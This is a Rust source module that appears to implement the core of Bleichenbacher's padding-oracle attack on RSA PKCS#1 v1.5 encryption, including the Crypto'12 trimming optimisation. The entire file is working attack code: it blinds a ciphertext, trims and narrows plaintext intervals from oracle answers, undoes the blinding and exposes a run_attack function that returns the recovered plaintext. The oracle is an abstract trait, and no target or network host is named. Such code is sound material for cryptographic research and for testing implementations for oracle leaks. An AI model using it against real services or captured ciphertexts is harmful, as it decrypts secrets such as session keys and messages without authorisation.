// Bleichenbacher's attack on PKCS#1 v1.5 encryption, with the Crypto'12
// trimming and skipping-holes optimisations.
mod query;
mod search;
mod trimming;

pub use trimming::{generate_lower_trimmers, TrimmingOutcome};

use crate::fraction::Fraction;
use crate::interval::{Interval, IntervalSet};
use crate::oracle::{OracleError, PaddingOracle};
use crate::rsa::{PublicKeyContext, MIN_PADDING_LEN};

use num_bigint::BigUint;
use num_traits::One;
use tracing::{debug, info, warn};

use std::fmt;

/// Number of trimming fractions, split evenly between both bounds.
pub const NUM_TRIMMERS: usize = 1500;
/// Largest `num + den` tried by the width-first trimmer search.
pub const MAX_ALL_FRACTION_SEARCH: u64 = 40;
/// Largest denominator tried by the depth-first trimmer search.
pub const MAX_FEW_FRACTION_SEARCH: u64 = 400;
/// Largest denominator numerators are searched over after trimming.
pub const MAX_DENOMINATORS: u64 = 5000;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackConfig {
    pub use_trimming: bool,
    pub num_trimmers: usize,
    pub max_all_fraction_search: u64,
    pub max_few_fraction_search: u64,
    pub max_denominators: u64,
    /// Give up after this many oracle queries.
    pub max_queries: Option<u64>,
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self {
            use_trimming: true,
            num_trimmers: NUM_TRIMMERS,
            max_all_fraction_search: MAX_ALL_FRACTION_SEARCH,
            max_few_fraction_search: MAX_FEW_FRACTION_SEARCH,
            max_denominators: MAX_DENOMINATORS,
            max_queries: None,
        }
    }
}

#[derive(Debug)]
pub enum AttackError {
    Oracle(OracleError),
    /// The query budget ran out before the plaintext was found.
    Exhausted { queries: u64 },
    /// No candidate plaintext is left, so the oracle answered inconsistently.
    NonConvergence,
    InvalidInput(String),
}

impl fmt::Display for AttackError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Oracle(e) => write!(f, "{e}"),
            Self::Exhausted { queries } => {
                write!(f, "query budget exhausted after {queries} queries")
            }
            Self::NonConvergence => write!(f, "no candidate plaintexts left"),
            Self::InvalidInput(msg) => write!(f, "invalid input: {msg}"),
        }
    }
}

impl std::error::Error for AttackError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            Self::Oracle(e) => Some(e),
            _ => None,
        }
    }
}

impl From<OracleError> for AttackError {
    fn from(e: OracleError) -> Self {
        Self::Oracle(e)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackOutcome {
    /// The recovered padded plaintext, `block_size` bytes long.
    pub plaintext: Vec<u8>,
    pub queries: u64,
    pub trimming_queries: u64,
    /// Number of step 2/3 rounds.
    pub iterations: u64,
    /// Blinding factor, 1 if the ciphertext already conformed.
    pub s0: BigUint,
    pub lower_fraction: Fraction,
    pub upper_fraction: Fraction,
}

/// One run of the attack against one oracle.
pub struct Attack<'a, O: PaddingOracle> {
    oracle: &'a mut O,
    key: PublicKeyContext,
    config: AttackConfig,
    plaintext_mode: bool,
    e0: BigUint,
    f0_minus_one: BigUint,
    queries_at_start: u64,
}

impl<'a, O: PaddingOracle> Attack<'a, O> {
    pub fn new(oracle: &'a mut O, config: AttackConfig) -> Self {
        let key = oracle.public_key().clone();
        let (e0, f0_minus_one) = oracle.oracle_type().initial_bounds(&key);
        let plaintext_mode = oracle.is_plaintext_oracle();
        let queries_at_start = oracle.query_count();
        Self {
            oracle,
            key,
            config,
            plaintext_mode,
            e0,
            f0_minus_one,
            queries_at_start,
        }
    }

    /// Queries made by this attack so far.
    pub fn queries_used(&self) -> u64 {
        self.oracle.query_count() - self.queries_at_start
    }

    fn ask(&mut self, msg: &[u8]) -> Result<bool, AttackError> {
        let queries = self.queries_used();
        if self.config.max_queries.is_some_and(|max| queries >= max) {
            return Err(AttackError::Exhausted { queries });
        }
        Ok(self.oracle.check_conformity(msg)?)
    }

    fn ask_multiplier(&mut self, base: &BigUint, s: &BigUint) -> Result<bool, AttackError> {
        let msg = query::prepare_multiplied(&self.key, base, s, self.plaintext_mode);
        self.ask(&msg)
    }

    /// Asks about `base` times `fraction`. A fraction that cannot be applied
    /// is skipped and counts as not conforming.
    fn ask_fraction(&mut self, base: &BigUint, fraction: Fraction) -> Result<bool, AttackError> {
        let msg = query::prepare_msg(
            &self.key,
            base,
            &BigUint::from(fraction.num()),
            &BigUint::from(fraction.den()),
            self.plaintext_mode,
        );
        match msg {
            Ok(msg) => self.ask(&msg),
            Err(e) => {
                warn!(%fraction, "skipping fraction: {e}");
                Ok(false)
            }
        }
    }

    /// Step 1: finds the smallest `s0` making `c * s0^e` conform.
    fn blind(&mut self, c: &BigUint) -> Result<(BigUint, BigUint), AttackError> {
        info!("Step 1: blinding");
        let mut s0 = BigUint::one();
        loop {
            let msg = query::prepare_multiplied(&self.key, c, &s0, self.plaintext_mode);
            if self.ask(&msg)? {
                debug!(%s0, "found s0");
                return Ok((BigUint::from_bytes_be(&msg), s0));
            }
            s0 += 1u32;
        }
    }

    /// Recovers the plaintext of `ciphertext`, or, for a plaintext oracle,
    /// recovers `ciphertext` itself using only oracle answers.
    pub fn run(
        &mut self,
        ciphertext: &[u8],
        already_conforming: bool,
    ) -> Result<AttackOutcome, AttackError> {
        let block_size = self.key.block_size;
        if block_size < MIN_PADDING_LEN + 3 {
            return Err(AttackError::InvalidInput(format!(
                "{block_size} byte modulus is too small for PKCS#1 v1.5"
            )));
        }
        if ciphertext.len() != block_size {
            return Err(AttackError::InvalidInput(format!(
                "ciphertext has {} bytes, expected {block_size}",
                ciphertext.len()
            )));
        }
        let c = BigUint::from_bytes_be(ciphertext);
        if c >= self.key.n {
            return Err(AttackError::InvalidInput(
                "ciphertext is not smaller than the modulus".to_string(),
            ));
        }
        info!(
            block_size,
            oracle_type = %self.oracle.oracle_type(),
            trimming = self.config.use_trimming,
            "starting attack"
        );

        let (c0, s0) = if already_conforming {
            info!("Step 1: skipped, ciphertext already conforms");
            (c, BigUint::one())
        } else {
            self.blind(&c)?
        };

        let initial = Interval::new(self.e0.clone(), self.f0_minus_one.clone());
        let mut lower_fraction = Fraction::ONE;
        let mut upper_fraction = Fraction::ONE;
        let mut trimming_queries = 0;
        let mut start = initial.clone();
        if self.config.use_trimming {
            let queries_before = self.queries_used();
            let trimmed = self.trim(&c0)?;
            trimming_queries = self.queries_used() - queries_before;
            lower_fraction = trimmed.lower;
            upper_fraction = trimmed.upper;
            match initial.apply_fractions(
                trimmed.lower,
                trimmed.upper,
                Some(&BigUint::from(trimmed.lcm)),
            ) {
                Ok(interval) => start = interval,
                Err(e) => warn!("keeping the untrimmed interval: {e}"),
            }
            debug!(trimming_queries, width = %start.width(), "trimmed interval");
        }

        let mut intervals = IntervalSet::new(start.clone());
        let mut s = self.search_skipping_holes(&c0, &start)?;
        let mut iterations = 0;
        let solution = loop {
            iterations += 1;
            intervals = intervals.narrow_with_multiplier(&s, &self.key);
            debug!(
                iteration = iterations,
                intervals = intervals.len(),
                width = %intervals.total_width(),
                queries = self.queries_used(),
                "narrowed"
            );

            if intervals.is_empty() {
                return Err(AttackError::NonConvergence);
            }
            if let Some(solution) = intervals.solution() {
                break solution.clone();
            }
            s = match intervals.single() {
                Some(interval) => {
                    let interval = interval.clone();
                    self.search_single_interval(&c0, &interval, &s)?
                }
                None => self.search_linear(&c0, &s)?,
            };
        };

        // Step 4: undo the blinding.
        let s0_inverse = s0.modinv(&self.key.n).ok_or_else(|| {
            AttackError::InvalidInput("blinding factor is not invertible".to_string())
        })?;
        let m = solution * s0_inverse % &self.key.n;
        let queries = self.queries_used();
        info!(queries, iterations, "solution found");

        Ok(AttackOutcome {
            plaintext: self.key.to_block(&m),
            queries,
            trimming_queries,
            iterations,
            s0,
            lower_fraction,
            upper_fraction,
        })
    }
}

/// Recovers the padded plaintext of `ciphertext` using `oracle`. Trimming is
/// used with `num_trimmers` fractions, or skipped if that is zero.
pub fn run_attack<O: PaddingOracle>(
    ciphertext: &[u8],
    oracle: &mut O,
    already_conforming: bool,
    num_trimmers: usize,
) -> Result<Vec<u8>, AttackError> {
    let config = AttackConfig {
        use_trimming: num_trimmers > 0,
        num_trimmers,
        ..AttackConfig::default()
    };
    let outcome = Attack::new(oracle, config).run(ciphertext, already_conforming)?;
    Ok(outcome.plaintext)
}
